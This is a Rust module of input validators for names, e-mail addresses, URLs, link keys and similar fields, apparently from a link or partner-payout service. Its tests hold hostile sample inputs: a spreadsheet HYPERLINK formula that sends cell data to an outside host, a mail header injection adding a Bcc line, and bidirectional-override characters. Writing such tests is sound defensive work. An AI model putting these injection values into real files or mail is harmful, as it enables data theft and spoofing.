//! What texts from outside must look like. Pure.

use providers::{Currency, Micros, nearest};
use serde_json::{Map, Value};
use url::Url;

use super::CatalogError;

/// The longest name, address or key, in characters.
const TEXT_MAX_CHARS: usize = 255;
/// The longest URL, in characters.
const URL_MAX_CHARS: usize = 2_048;
/// The largest amount: 2^53-1, the last whole number that every JSON reader holds exactly.
pub const AMOUNT_MAX: i64 = 9_007_199_254_740_991;
/// The longest reason, in characters.
const REASON_MAX_CHARS: usize = 2_048;
/// The longest click id, in characters.
const CLICK_ID_MAX_CHARS: usize = 128;
/// The longest key of a link, in characters.
const KEY_MAX_CHARS: usize = 64;

/// First words of our own addresses, which no link's key may be.
const PATH_WORDS: &[&str] = &[
    "api",
    "assets",
    "dashboard",
    "docs",
    "embed",
    "favicon",
    "healthz",
    "metrics",
    "openapi",
    "portal",
    "r",
    "readyz",
    "robots",
    "static",
    "webhooks",
];

type Checked<T> = Result<T, CatalogError>;

/// A text that must say something; white space around it is cut.
pub fn text(field: &str, given: &str) -> Checked<String> {
    limited(field, given, TEXT_MAX_CHARS)
}

pub(super) fn limited(field: &str, given: &str, most: usize) -> Checked<String> {
    let text = given.trim();
    if text.is_empty() {
        return Err(CatalogError::invalid(field, "must not be empty"));
    }
    if text.chars().count() > most {
        let message = format!("must have at most {most} characters");
        return Err(CatalogError::invalid(field, &message));
    }
    if text.contains('\0') {
        return Err(CatalogError::invalid(
            field,
            "must not contain the character U+0000",
        ));
    }
    Ok(text.to_owned())
}

/// The longest name of somebody, in characters, where owners say it.
pub const NAME_MAX_CHARS: usize = 200;

/// The name of somebody. What has no shape of its own and changes how the text around it looks is left out: control characters, and those that turn the
/// direction of writing.
pub fn name(field: &str, given: &str, most: usize) -> Checked<String> {
    let given = limited(field, given, given.len())?;
    let turns = |c: char| matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    let breaks = |c: char| c.is_control() || matches!(c, '\u{2028}' | '\u{2029}');
    let plain = given.replace(turns, "");
    let words: Vec<&str> = plain.split(breaks).map(str::trim).collect();
    let words: Vec<&str> = words.into_iter().filter(|word| !word.is_empty()).collect();
    limited(field, &words.join(" "), most)
}

/// Refuses a member of an object that is none of `known`.
pub fn members(field: &str, given: &Map<String, Value>, known: &[&str]) -> Checked<()> {
    match given.keys().find(|name| !known.contains(&name.as_str())) {
        None => Ok(()),
        Some(name) => {
            let path = format!("{field}.{}", nearest::shown(name));
            let hint = nearest::hint(name, known);
            Err(CatalogError::Invalid {
                message: format!("unknown member `{path}`{hint}"),
                field: path,
            })
        }
    }
}

/// A text that must be there.
pub fn required<'a>(field: &str, given: Option<&'a str>) -> Checked<&'a str> {
    given.ok_or_else(|| CatalogError::invalid(field, "is required"))
}

/// Why something is decided, in the owner's words. It must be given.
pub fn reason(given: Option<&str>) -> Checked<String> {
    limited("reason", required("reason", given)?, REASON_MAX_CHARS)
}

/// A text that is nice to have: one that cannot be used counts as not given.
pub fn usable(given: Option<&str>) -> Option<String> {
    limited("", given?, URL_MAX_CHARS).ok()
}

/// An e-mail address, in lower case: one partner has one. Two in one text, a name around it, quotes and what a spreadsheet would compute are refused:
/// it goes into mails' headers and into files by which many are paid at once.
pub fn email(field: &str, given: &str) -> Checked<String> {
    let email = text(field, given)?.to_lowercase();
    let (local, domain) = email.split_once('@').unwrap_or_default();
    let is_odd = |c: char| c.is_whitespace() || c.is_control() || "@,;:<>()[]\"\\".contains(c);
    let is_host = |c: char| c.is_alphanumeric() || matches!(c, '.' | '-');
    if local.is_empty()
        || local.starts_with(['=', '+', '-'])
        || local.contains(is_odd)
        || !domain.starts_with(char::is_alphanumeric)
        || !domain.chars().all(is_host)
    {
        return Err(CatalogError::invalid(
            field,
            "must be an e-mail address, for example alice@example.com",
        ));
    }
    Ok(email)
}

/// An absolute http or https URL, as given.
pub fn url(field: &str, given: &str) -> Checked<String> {
    let url = limited(field, given, URL_MAX_CHARS)?;
    let web = Url::parse(&url).is_ok_and(|url| matches!(url.scheme(), "http" | "https"));
    if web {
        Ok(url)
    } else {
        Err(CatalogError::invalid(
            field,
            "must begin with http:// or https:// and name a host",
        ))
    }
}

fn is_plain(text: &str, most: usize) -> bool {
    let plain = |c: char| c.is_ascii_alphanumeric() || c == '_' || c == '-';
    !text.is_empty() && text.len() <= most && text.chars().all(plain)
}

/// A link's key.
pub fn key(field: &str, given: &str) -> Checked<String> {
    let key = given.trim();
    if !is_plain(key, KEY_MAX_CHARS) {
        return Err(CatalogError::invalid(
            field,
            "must have 1 to 64 of the characters A-Z a-z 0-9 _ -",
        ));
    }
    if PATH_WORDS.contains(&key.to_ascii_lowercase().as_str()) {
        return Err(CatalogError::invalid(
            field,
            "is a word of the server's own addresses: choose another",
        ));
    }
    Ok(key.to_owned())
}

/// The domain of a link, in lower case; empty for the server's own.
pub fn domain(field: &str, given: Option<&str>) -> Checked<String> {
    let Some(given) = given.map(str::trim).filter(|given| !given.is_empty()) else {
        return Ok(String::new());
    };
    let domain = text(field, given)?.to_ascii_lowercase();
    let host = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':');
    if domain.chars().all(host) && domain.starts_with(|c: char| c.is_ascii_alphanumeric()) {
        Ok(domain)
    } else {
        Err(CatalogError::invalid(
            field,
            "must be a host name alone, for example go.example.com",
        ))
    }
}

/// A click's id.
pub fn click_id(field: &str, given: &str) -> Checked<String> {
    if is_plain(given, CLICK_ID_MAX_CHARS) {
        Ok(given.to_owned())
    } else {
        Err(CatalogError::invalid(
            field,
            "must have 1 to 128 of the characters A-Z a-z 0-9 _ -",
        ))
    }
}

/// A time with its zone.
pub fn time(field: &str, given: &str) -> Checked<Micros> {
    Micros::parse_rfc3339(given).ok_or_else(|| {
        CatalogError::invalid(field, "must be a time as 2026-11-22T10:00:00Z (RFC 3339)")
    })
}

/// A currency of ISO 4217.
pub fn currency(field: &str, given: &str) -> Checked<Currency> {
    Currency::parse(given)
        .filter(|currency| currency.is_known())
        .ok_or_else(|| CatalogError::invalid(field, "must be a code of ISO 4217, for example usd"))
}

/// A whole number within bounds.
pub fn within(field: &str, given: i64, least: i64, most: i64) -> Checked<i64> {
    if (least..=most).contains(&given) {
        Ok(given)
    } else {
        let message = format!("must be between {least} and {most}");
        Err(CatalogError::invalid(field, &message))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn one_address_and_nothing_else_is_an_address() {
        for (given, kept) in [
            (" Alice@Example.com ", "alice@example.com"),
            (
                "o'neil+shop@mail.example.co.uk",
                "o'neil+shop@mail.example.co.uk",
            ),
            ("jürgen@müller.example", "jürgen@müller.example"),
            ("root@localhost", "root@localhost"),
        ] {
            assert_eq!(email("email", given).unwrap(), kept);
        }
        for wrong in [
            "alice",
            "@example.com",
            "alice@",
            "a b@example.com",
            "a@@example.com",
            "a@b@example.com",
            "a@x.example,b@y.example",
            "<a@x.example>",
            "\"x,y\"@x.example",
            "=1+1@x.example",
            "=HYPERLINK(\"http://e/?\"&B1)&\"@x.example",
            "-w3@x.example",
            "+1@x.example",
            "a@x.example\r\nBcc: b@y.example",
            "a@.example",
            "a@x/y.example",
        ] {
            assert!(email("email", wrong).is_err(), "{wrong}");
        }
    }

    #[test]
    fn a_name_keeps_its_letters_and_loses_what_turns_or_breaks_lines() {
        for (given, kept) in [
            (" Ada Lovelace ", "Ada Lovelace"),
            ("Ada\u{202e}evil", "Adaevil"),
            ("\u{2066}Ada\u{2069}", "Ada"),
            ("Ada\n\tLovelace", "Ada Lovelace"),
            (
                "\u{634}\u{631}\u{643}\u{629}",
                "\u{634}\u{631}\u{643}\u{629}",
            ),
        ] {
            assert_eq!(name("name", given, 100).unwrap(), kept);
        }
        for wrong in ["", "\u{202e}", "a\0b", &"a".repeat(101)] {
            assert!(name("name", wrong, 100).is_err(), "{wrong:?}");
        }
    }
}
